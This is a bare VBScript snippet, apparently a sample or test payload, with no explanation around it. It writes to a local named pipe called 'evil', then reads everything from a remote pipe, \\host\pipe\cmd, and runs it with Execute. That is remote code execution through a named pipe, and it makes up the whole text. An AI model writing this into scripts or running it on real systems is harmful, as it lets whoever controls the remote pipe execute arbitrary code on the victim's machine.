Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile("\\.\pipe\evil", 2)
f.WriteLine "hi"
Set g = CreateObject("Scripting.FileSystemObject")
Execute g.OpenTextFile("\\host\pipe\cmd").ReadAll
